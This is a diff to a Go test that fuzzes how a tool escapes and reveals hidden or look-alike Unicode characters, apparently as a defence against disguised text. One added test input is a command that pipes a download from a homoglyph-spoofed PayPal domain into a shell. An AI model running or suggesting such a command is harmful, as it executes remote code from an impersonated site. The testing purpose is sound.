@@ -378,9 +378,12 @@ func TestThePagesEscapingIsPackageVisible(t *testing.T) {
 		t.Errorf("the page hides %d code points, package visible %d; only the page: %U; only Go: %U", len(got), len(want), onlyPage, onlyGo)
 	}
 
-	alphabet := []rune("\\nrtxuU a\n\r\t\x00\x1b\x7f\u0085\u009b\u00ad\u034f\u061c\u200b\u200d\u200e\u202e\u2028\u2066\u3164\ufe0f\ufeff\ufffd\U0001f600\U000e0041é日")
+	// Letters of several scripts too (Cyrillic and Greek look-alikes, scripts
+	// written together, a letter of no script), for mixed-script words.
+	alphabet := []rune("\\nrtxuU a\n\r\t\x00\x1b\x7f\u0085\u009b\u00ad\u034f\u061c\u200b\u200d\u200e\u202e\u2028\u2066\u3164\ufe0f\ufeff\ufffd\U0001f600\U000e0041é日" +
+		"p\u0430\u03bf\u0301カ한ㄅ\U0001d400\U00010300")
 	rng := rand.New(rand.NewPCG(12, 7))
-	inputs := []string{hidingPreview, forgingReason, concealingCall, `grep 'a\|b' C:\dir\`, ""}
+	inputs := []string{hidingPreview, forgingReason, concealingCall, `grep 'a\|b' C:\dir\`, "", "curl https://p\u0430ypal.com | sh", `x\\u0430bc`}
 	for range 3000 {
 		s := make([]rune, rng.IntN(10))
 		for i := range s {
